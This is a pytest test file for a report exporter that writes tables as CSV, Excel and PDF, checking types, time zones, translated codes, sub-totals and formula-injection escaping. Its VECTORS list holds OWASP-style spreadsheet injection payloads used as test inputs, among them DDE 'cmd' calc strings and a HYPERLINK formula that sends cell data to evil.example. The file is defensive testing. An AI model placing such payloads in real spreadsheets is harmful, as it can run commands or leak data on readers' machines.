"""Tables as files, read back: types are kept, and no text becomes a formula."""

import csv
import datetime as dt
import io
from typing import Any

import msgspec
import openpyxl
import pytest

from server.documents.report_sheet import report_sheet
from server.insights.reports.files import Sheet, csv_file, made, printable, xlsx_file
from server.insights.reports.table import Sum, Table, TableColumn
from tests.documents.reading import text_of

NOON = int(dt.datetime(2026, 7, 1, 11, 0, tzinfo=dt.UTC).timestamp() * 1000)
# The sign at the beginning as OWASP lists them, with what each has been used for.
VECTORS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Error")',
    "+1+1|'x'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "{=1+1}",
    '=1";=1',
    "http://evil.example",
    "+44 113 496 0000 x",
)
BEGINNINGS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
PLAIN = ("Mill Lane 1", 'O\'Neill; Sons, "Ltd"', "木材商行", "", "two\r\nlines")


def sheet(columns: list[TableColumn], rows: list[list[Any]], lang: Any = "en") -> Sheet:
    table = Table(columns, rows, False, "", NOON, NOON + 1, "Europe/London")
    return Sheet("Sales", table, lang, NOON)


def texts(values: tuple[str, ...]) -> Sheet:
    return sheet([TableColumn("=Customer", "text")], [[v] for v in values])


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content: bytes) -> list[tuple[Any, ...]]:
    page = openpyxl.load_workbook(io.BytesIO(content)).active
    return list(page.iter_rows())


@pytest.mark.parametrize("text", VECTORS)
def test_no_cell_of_a_csv_begins_a_formula(text: str) -> None:
    head, row = read_csv(csv_file(texts((text,))))
    assert head == ["'=Customer"]
    assert row[0].lstrip("'") == text
    assert row[0][0] not in BEGINNINGS


@pytest.mark.parametrize("text", VECTORS)
def test_every_text_in_excel_is_text_and_stays_so_when_it_is_edited(text: str) -> None:
    (head,), (cell,) = read_xlsx(xlsx_file(texts((text,))))
    assert (head.data_type, cell.data_type) == ("s", "s")
    assert cell.value.replace("_x000D_", "\r") == text
    assert cell.hyperlink is None
    assert bool(cell.quotePrefix) == (text[0] in BEGINNINGS)


def test_without_the_guard_the_same_file_would_hold_a_formula() -> None:
    """The twin that must fail: written as it comes, the first vector is a formula."""
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = VECTORS[0]
    book.save(out)
    ((cell,),) = read_xlsx(out.getvalue())
    assert cell.data_type == "f"


def test_plain_text_goes_through_a_csv_as_it_is() -> None:
    assert [row[0] for row in read_csv(csv_file(texts(PLAIN)))[1:]] == list(PLAIN)


def test_a_csv_ends_its_lines_as_rfc_4180_says() -> None:
    assert csv_file(texts(('a"b', "c,d"))).endswith(b'"a""b"\r\n"c,d"\r\n')


COLUMNS = [
    TableColumn("Placed", "moment"),
    TableColumn("Day", "date"),
    TableColumn("Month", "month"),
    TableColumn("Pieces", "whole"),
    TableColumn("Share", "number"),
    TableColumn("Total", "money"),
    TableColumn("Late", "flag"),
    TableColumn("Number", "text"),
    TableColumn("Large", "whole"),
]
ROW = [NOON, "2026-07-01", "2026-07", 12, -0.5, 1234.5, 1, "0042", 2**60]


def test_a_csv_tells_moments_by_the_sites_clock() -> None:
    head, row = read_csv(csv_file(sheet(COLUMNS, [ROW])))
    assert head[0] == "Placed (Europe/London)"
    assert row[0] == "2026-07-01 12:00:00"
    assert row[1:] == [
        "2026-07-01",
        "2026-07",
        "12",
        "-0.5",
        "1234.5",
        "1",
        "0042",
        str(2**60),
    ]


def by_the_wall(hour: int) -> dt.datetime:
    """Of 1 July: a spreadsheet knows no zones."""
    return dt.datetime(2026, 7, 1, hour, tzinfo=dt.UTC).replace(tzinfo=None)


def test_excel_is_given_numbers_dates_and_truth_as_such() -> None:
    _, row = read_xlsx(xlsx_file(sheet(COLUMNS, [ROW])))
    assert [cell.value for cell in row] == [
        by_the_wall(12),
        by_the_wall(0),
        by_the_wall(0),
        12,
        -0.5,
        1234.5,
        True,
        "0042",
        str(2**60),  # as a number it would lose its last digits
    ]
    assert row[0].is_date
    assert row[7].data_type == "s"


def test_a_file_that_leaves_rows_out_says_so() -> None:
    cut = sheet(COLUMNS, [ROW])
    cut = cut._replace(table=msgspec.structs.replace(cut.table, more=True))
    book = openpyxl.load_workbook(io.BytesIO(xlsx_file(cut)))
    told = [cell.value for row in book.worksheets[1].iter_rows() for cell in row]
    assert any(str(each).startswith("There are more rows") for each in told)
    assert book.active.max_row == 2
    assert "There are more rows" in printable(cut).note


def test_what_has_no_value_is_an_empty_cell() -> None:
    nothing = sheet(COLUMNS, [[None] * len(COLUMNS)])
    assert set(read_csv(csv_file(nothing))[1]) == {""}
    assert len(read_xlsx(xlsx_file(nothing))) == 1  # the head alone


def test_a_pdf_says_what_is_in_the_table_in_chinese_too() -> None:
    text = text_of(
        made(sheet(COLUMNS, [[*ROW[:7], "木材商行 #panic()", 7]], "zh-Hant"), "pdf", report_sheet)
    )
    for part in ("木材商行 #panic()", "2026-07-01 12:00", "1,234.50", "是", "期間"):
        assert part in text


def test_a_pdf_of_many_rows_has_its_head_on_each_page() -> None:
    rows = [[f"C{n:03}" + "x" * 60] for n in range(120)]
    text = text_of(made(sheet([TableColumn("Customer", "text")], rows), "pdf", report_sheet))
    assert text.count("Customer") >= 3
    assert "C119" in text


def test_an_empty_report_says_so_on_paper() -> None:
    assert printable(sheet(COLUMNS, [])).note == "Nothing in this period."


CODED = [
    TableColumn("State", "text", words="state"),
    TableColumn("Why", "text", words="why"),
    TableColumn("Weekday", "weekday"),
    TableColumn("Number", "text"),
]
CODES: list[Any] = ["out_for_delivery", "wrong_item", 1, "packed"]


@pytest.mark.parametrize(
    ("lang", "words"),
    [
        ("en", ["Out for delivery", "wrong item in the bin", "Monday", "packed"]),
        ("zh-Hans", ["配送中", "库位货品错误", "星期一", "packed"]),
        ("zh-Hant", ["配送中", "儲位貨品錯誤", "星期一", "packed"]),
    ],
)
def test_codes_are_told_in_the_readers_words_in_every_file(lang: Any, words: list[str]) -> None:
    coded = sheet(CODED, [CODES, [None] * 4], lang)
    assert read_csv(made(coded, "csv", report_sheet))[1:] == [words, [""] * 4]
    _, row = read_xlsx(made(coded, "xlsx", report_sheet))
    assert [cell.value for cell in row] == words
    printed = text_of(made(coded, "pdf", report_sheet)).replace("\n", " ")
    assert all(word in printed for word in words)
    assert "out_for_delivery" not in printed


def test_a_machine_may_have_the_codes() -> None:
    coded = sheet(CODED, [CODES], "zh-Hans")._replace(values="codes")
    assert read_csv(made(coded, "csv", report_sheet))[1] == [str(each) for each in CODES]
    _, row = read_xlsx(made(coded, "xlsx", report_sheet))
    assert [cell.value for cell in row] == CODES


SUMMED = Table(
    [
        TableColumn("State", "text", words="state", is_group=True),
        TableColumn("Day", "date", is_group=True),
        TableColumn("Orders", "whole"),
    ],
    [["packed", "2026-07-01", 2], ["packed", "2026-07-02", 3], ["shipped", "2026-07-01", 4]],
    False,
    "",
    0,
    0,
    "UTC",
    [
        Sum(1, 1, ["packed", None, 5]),
        Sum(2, 1, ["shipped", None, 4]),
        Sum(2, 0, [None, None, 9]),
    ],
)


def test_sub_totals_stand_after_their_rows_in_every_file() -> None:
    summed = Sheet("Orders", SUMMED, "en", NOON)
    assert read_csv(made(summed, "csv", report_sheet))[1:] == [
        ["Packed", "2026-07-01", "2"],
        ["Packed", "2026-07-02", "3"],
        ["Packed", "Total", "5"],
        ["Shipped", "2026-07-01", "4"],
        ["Shipped", "Total", "4"],
        ["Total", "", "9"],
    ]
    page = read_xlsx(made(summed, "xlsx", report_sheet))
    assert [row[2].value for row in page[1:]] == [2, 3, 5, 4, 4, 9]
    assert [row[2].font.b for row in page[1:]] == [False, False, True, False, True, True]
    assert printable(summed).sums == [2, 4, 5]
    assert text_of(made(summed, "pdf", report_sheet)).count("Total") == 3


def test_a_machine_gets_no_sub_totals_among_its_rows() -> None:
    summed = Sheet("Orders", SUMMED, "en", NOON, "codes")
    assert [row[2] for row in read_csv(made(summed, "csv", report_sheet))[1:]] == ["2", "3", "4"]


def test_a_code_that_nobody_has_named_stays_what_it_is() -> None:
    coded = sheet(CODED[:1], [["=HYPERLINK(1)"]])
    assert read_csv(made(coded, "csv", report_sheet))[1] == ["'=HYPERLINK(1)"]
    _, (cell,) = read_xlsx(made(coded, "xlsx", report_sheet))
    assert (cell.data_type, bool(cell.quotePrefix)) == ("s", True)
